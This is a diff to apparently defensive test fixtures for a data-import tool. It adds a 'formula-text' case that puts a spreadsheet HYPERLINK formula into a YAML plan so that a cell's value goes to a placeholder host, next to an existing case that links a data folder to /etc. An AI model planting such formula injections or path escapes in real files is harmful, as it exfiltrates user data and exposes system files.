@@ -180,6 +180,7 @@ EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
     "figure-conflict": {},
     "import-target": {"data/2022/so-lieu.csv": "indicator,area,period,value\n"},
     "import-path": {"data/2022": Link("/etc")},
+    "formula-text": {"plans/demo.yaml": _plan("name: Số lượng", "name: '=HYPERLINK(\"http://x.invalid/?\"&D3)'")},
     "bad-workbook": {},
     "no-data-sheet": {},
     "no-keys-row": {},
